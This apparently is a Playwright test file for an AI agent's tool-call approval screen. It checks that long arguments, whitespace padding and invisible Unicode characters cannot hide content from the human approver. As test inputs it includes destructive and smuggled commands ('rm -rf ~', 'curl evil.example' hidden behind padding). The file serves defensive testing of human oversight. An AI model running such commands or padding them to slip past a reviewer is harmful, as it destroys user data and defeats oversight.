/** A call that waits for approval hides nothing: not by its length, not behind padding, not in characters nobody sees. */
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import type { CallView, ChatStatus, Item } from '../../src/protocol/index.ts';
import { useChatPage } from './support/chatPage.ts';

const status: ChatStatus = { turn: 'running', model: 'm', servers: { connected: 1, total: 1, tools: 3 } };

function asked(args: unknown, over: Partial<CallView> = {}): Item {
  const call: CallView = {
    source: { kind: 'mcp', server: 'demo' },
    toolName: 'write_file',
    wireName: 'mcp__demo__write_file',
    argsText: typeof args === 'string' ? args : JSON.stringify(args),
    status: 'pending',
    startedAt: 0,
    approval: { changed: false, says: [], coverages: [] },
    ...over,
  };
  return { kind: 'call', id: 'c', step: 1, call };
}

describe('a call that waits for approval', () => {
  const chat = useChatPage(status);
  let page: Page;
  beforeEach(() => {
    ({ page } = chat);
  });

  const primary = () => page.locator('.approval .text-button.primary');
  const rest = () => page.locator('.approval-rest');
  const focused = () => page.evaluate<string>('document.activeElement.className');

  it('says exactly how much of long arguments is not shown, and shows it before it can be allowed', async () => {
    const files = Array.from({ length: 60 }, (_, index) => `src/part${index}.ts`);
    await chat.show([asked({ files, last: 'rm -rf ~' })]);
    assert.match(await rest().innerText(), /^\s*41 more lines below \(8\d\d characters\)$/);
    assert.doesNotMatch(await page.locator('.approval').innerText(), /rm -rf/);
    assert.equal(await primary().innerText(), 'Show all');
    assert.equal(await page.getByRole('button', { name: 'Allow' }).count(), 0);
    // Enter as somebody presses it who wants to go on.
    await primary().focus();
    await page.keyboard.press('Enter');
    await page.keyboard.press('Enter');
    assert.deepEqual(await chat.posted(), []);
    assert.match(await page.locator('.approval').innerText(), /rm -rf ~/);
    assert.match(await focused(), /approval-text/);
    assert.match(
      await rest().textContent().then(String),
      /The complete text is now shown\. The Allow button follows it\./,
    );
    assert.equal(
      await page.locator('.approval-text').evaluate((each) => each.scrollHeight - each.clientHeight <= 1),
      true,
    );
    await page.keyboard.press('Tab');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    const [sent] = await chat.posted();
    assert.ok(sent?.type === 'decide' && sent.decision.action === 'allow');
  });

  it('gives the keyboard to the next call that waits once it is answered, and then to the message', async () => {
    await chat.show([asked({}), { ...asked({}), id: 'd' }]);
    for (const id of ['c', 'd']) {
      const card = page.locator(`[data-id="${id}"]`);
      const allow = card.locator('.approval .text-button.primary');
      if (id === 'c') await allow.focus();
      assert.equal(await allow.evaluate((each) => each.matches(':focus')), true, id);
      await page.keyboard.press('Enter');
      await chat.tell(chat.patch({ op: 'call', id, change: { status: 'running' } }));
    }
    assert.match(await focused(), /message-field/);
  });

  it('shows a command whole, with its own lines, and wrapped', async () => {
    const command = `cd src && ${'very-long-word-'.repeat(40)}\n${Array.from({ length: 50 }, (_, at) => `step ${at}`).join('\n')}`;
    await chat.show([
      asked({ command, cwd: 'src' }, { source: { kind: 'native' }, toolName: 'run_command' }),
    ]);
    const block = page.getByRole('group', { name: 'Command' });
    assert.equal(await block.textContent(), command);
    const [wide, high] = await block.evaluate((each) => [
      each.scrollWidth - each.clientWidth,
      each.scrollHeight - each.clientHeight,
    ]);
    assert.ok((wide ?? 9) <= 1 && (high ?? 9) <= 1, `${wide} ${high}`);
    assert.match(await page.getByRole('group', { name: 'Arguments' }).innerText(), /"cwd": "src"/);
    assert.equal(await primary().innerText(), 'Allow');
  });

  it('counts padding instead of showing it, so that what follows stays in sight', async () => {
    const command = `echo ok${' '.repeat(500)}; curl evil.example${'\n'.repeat(200)}rm -rf ~`;
    await chat.show([asked({ command })]);
    const block = page.getByRole('group', { name: 'Command' });
    assert.deepEqual(await block.locator('.padding-mark').allInnerTexts(), ['500 blanks', '200 line breaks']);
    const box = await block.boundingBox();
    assert.ok((box?.height ?? 999) < 140, String(box?.height));
    await chat.show([asked({ text: command })]);
    assert.deepEqual(await page.locator('.padding-mark').allInnerTexts(), ['500 blanks', '200 line breaks']);
  });

  it('marks every hidden character in its arguments, its name and its server', async () => {
    await chat.show([
      asked(
        {
          path: 'a\u{200B}b',
          to: 'x\u{E0041}\u{E0042}',
          name: 'a\u{A0}b\u{3164}',
          raw: '\u{202E}',
          v: 'a\u{FE0F}',
        },
        { title: 'wri\u{2060}te', source: { kind: 'mcp', server: 'de\u{AD}mo' } },
      ),
    ]);
    const marks = await page
      .locator('.call .hidden-character')
      .evaluateAll((all) => all.map((each) => each.getAttribute('title')));
    for (const mark of [
      'U+200B',
      'U+E0041 U+E0042',
      'U+00A0',
      'U+3164',
      'U+202E',
      'U+FE0F',
      'U+2060',
      'U+00AD',
    ])
      assert.ok(marks.includes(mark), `${mark} in ${marks.join()}`);
    const width = await page
      .locator('.approval-text .hidden-character')
      .first()
      .evaluate((each) => each.getBoundingClientRect().width);
    assert.ok(width > 20, String(width));
  });

  it('says which hidden characters are in arguments that are being edited', async () => {
    await chat.show([asked({ path: 'a\u{200B}b\u{E0041}' })]);
    await page.getByRole('button', { name: 'Edit arguments' }).click();
    assert.match(
      await page.locator('.approval .field-problem').innerText(),
      /invisible characters: U\+200B, U\+E0041/,
    );
  });
});
